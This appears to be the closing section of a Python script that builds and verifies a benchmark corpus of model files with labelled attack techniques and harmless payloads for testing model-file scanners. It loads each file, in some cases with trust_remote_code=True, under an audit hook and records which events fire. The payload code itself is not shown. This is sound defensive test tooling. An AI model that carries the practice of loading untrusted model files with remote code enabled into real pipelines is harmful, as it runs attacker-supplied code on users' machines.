            AutoModel.from_pretrained(path.parent, trust_remote_code=True)
        else:
            return "not loaded"
        return "loaded"

    # Import the heavy loaders before arming, so their own start-up is not attributed to files.
    import jinja2  # noqa: F401
    import joblib  # noqa: F401
    import keras  # noqa: F401
    import onnxruntime  # noqa: F401
    import onnx  # noqa: F401
    import transformers  # noqa: F401
    out = {}
    for rel, info in sorted(labels.items()):
        if info["container"] in ("raw",) or rel.endswith((".py", "weights.bin")):
            continue
        if info["container"] == "json" and info["technique"] != "hf-auto-map":
            continue
        state.update(armed=True, events=[], skip_exec=False)
        try:
            outcome = load(rel, info)
        except BaseException as e:  # noqa: BLE001 -- a hostile file may raise anything
            outcome = f"{type(e).__name__}: {str(e).splitlines()[0][:120] if str(e) else ''}"
        state["armed"] = False
        worst = [e for e in state["events"] if e.startswith(BLOCK)] or state["events"]
        out[rel] = {"fires": worst[0] if worst else None, "load": outcome}
    print(json.dumps(out))


def read_gguf_kv(path):
    """String and uint32 metadata of a GGUF file (enough for the files this script writes)."""
    data = Path(path).read_bytes()
    _, _, n_kv = struct.unpack_from("<IQQ", data, 4)
    pos, kv = 24, {}
    for _ in range(n_kv):
        (n,) = struct.unpack_from("<Q", data, pos)
        key = data[pos + 8:pos + 8 + n].decode()
        pos += 8 + n
        (t,) = struct.unpack_from("<I", data, pos)
        pos += 4
        if t == 8:
            (n,) = struct.unpack_from("<Q", data, pos)
            kv[key] = data[pos + 8:pos + 8 + n].decode()
            pos += 8 + n
        elif t == 4:
            kv[key] = struct.unpack_from("<I", data, pos)[0]
            pos += 4
        else:
            break
    return kv


# --------------------------------------------------------------------------------------------
# --big: multi-gigabyte files for the speed benchmark (runs under ML_PYTHON).
# --------------------------------------------------------------------------------------------

def big_main(out, gb):
    import torch
    from safetensors.torch import save_file

    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    g = torch.Generator().manual_seed(0)
    per = 64 * 1024 * 1024 // 4  # 64 MiB of float32 per tensor
    n = max(1, int(gb * 1024 / 64))
    pt = out / "checkpoint.pt"
    if not pt.exists():
        sd = {f"layers.{i}.weight": torch.randn(per, generator=g).view(4096, -1) for i in range(n)}
        tmp = pt.with_name(f"{pt.name}.{os.getpid()}.tmp")
        torch.save(sd, tmp)
        tmp.rename(pt)
        del sd
    st = out / "model.safetensors"
    if not st.exists():
        m = max(1, int(gb * 0.8 * 1024 / 64))
        sd = {f"layers.{i}.weight": torch.randn(per, generator=g).view(4096, -1) for i in range(m)}
        tmp = st.with_name(f"{st.name}.{os.getpid()}.tmp")
        save_file(sd, tmp, metadata={"format": "pt"})
        tmp.rename(st)
    for f in (pt, st):  # the sizes, for the log
        print(f"{f}: {f.stat().st_size / 2**30:.2f} GiB", file=sys.stderr)


# --------------------------------------------------------------------------------------------

def run_ml(*args):
    res = subprocess.run([str(ML_PYTHON), str(Path(__file__).resolve()), *args], capture_output=True, text=True)
    if res.returncode != 0:
        sys.exit(f"error: {ML_PYTHON} {' '.join(args)} failed:\n{res.stderr[-4000:]}")
    return json.loads(res.stdout.strip().splitlines()[-1])


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "_libs":
        return libs_main(sys.argv[2])
    if len(sys.argv) > 1 and sys.argv[1] == "_verify":
        return verify_main(sys.argv[2], sys.argv[3])
    if len(sys.argv) > 1 and sys.argv[1] == "_big":
        return big_main(sys.argv[2], float(sys.argv[3]))
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=Path("/tmp/model-bench/corpus"))
    ap.add_argument("--force", action="store_true", help="delete --out and rebuild it")
    ap.add_argument("--verify", action="store_true", help="load every file under an audit hook")
    ap.add_argument("--big", type=Path, help="also write the multi-GB files here")
    ap.add_argument("--big-gb", type=float, default=2.5)
    a = ap.parse_args()
    if not ML_PYTHON.exists():
        sys.exit(f"error: {ML_PYTHON} is missing; set ML_PYTHON to a python with torch, keras, transformers")
    repo = Path(__file__).resolve().parent.parent
    if a.out.resolve().is_relative_to(repo) or (a.big and a.big.resolve().is_relative_to(repo)):
        sys.exit("error: the corpus holds live (if harmless) payloads and big files: keep it out of the repo")
    if a.force and a.out.exists():
        shutil.rmtree(a.out)
    a.out.mkdir(parents=True, exist_ok=True)
    labels = run_ml("_libs", str(a.out))
    labels.update(stdlib_files(a.out))
    labels = dict(sorted(labels.items()))
    manifest = a.out / "labels.json"
    old = json.loads(manifest.read_text()) if manifest.exists() else {}
    doc = {"version": CORPUS_VERSION, "files": labels}
    if a.verify:
        tmp = a.out.parent / (a.out.name + ".labels.tmp.json")
        tmp.write_text(json.dumps(labels))
        env_home = a.out.parent / "hf-home"
        os.environ.setdefault("HF_HOME", str(env_home))
        os.environ.setdefault("HF_HUB_OFFLINE", "1")
        os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
        for rel, v in run_ml("_verify", str(a.out), str(tmp)).items():
            labels[rel].update(v)
        tmp.unlink()
    elif old.get("version") == CORPUS_VERSION:  # keep earlier verification results
        for rel, info in old.get("files", {}).items():
            if rel in labels and "fires" in info:
                labels[rel].update(fires=info["fires"], load=info["load"])
    manifest.write_text(json.dumps(doc, indent=1) + "\n")
    counts = {}
    for info in labels.values():
        counts[info["category"]] = counts.get(info["category"], 0) + 1
    print(f"{a.out}: {len(labels)} files " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    if a.big:
        run_ml_big = subprocess.run([str(ML_PYTHON), str(Path(__file__).resolve()), "_big", str(a.big),
                                     str(a.big_gb)])
        if run_ml_big.returncode != 0:
            sys.exit("error: writing the big files failed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
